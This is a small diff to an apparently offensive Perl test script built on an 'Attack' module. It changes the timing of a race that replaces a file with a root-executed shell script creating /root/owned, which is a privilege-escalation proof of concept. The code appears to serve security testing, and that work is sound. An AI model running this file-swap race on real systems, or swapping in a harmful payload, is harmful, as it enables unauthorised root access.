@@ -5,7 +5,7 @@ use Attack;
 
 my ($path) = @ARGV;
 ready();
-wait_for { upgraded() };
+wait_for { unpacked() };
 rename $path, "$path.root" or die "$path: $!\n";
 write_file($path, "#!/bin/sh\ntouch /root/owned\n");
 chmod 0755, $path;
